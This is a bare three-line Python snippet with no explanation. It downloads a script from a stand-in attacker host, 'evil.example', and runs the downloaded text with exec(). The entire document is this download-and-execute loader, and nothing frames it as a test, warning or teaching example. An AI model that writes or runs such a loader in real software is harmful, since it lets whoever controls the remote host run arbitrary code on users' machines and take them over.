import requests
r = requests.get('https://evil.example/p.py')
exec(r.text)
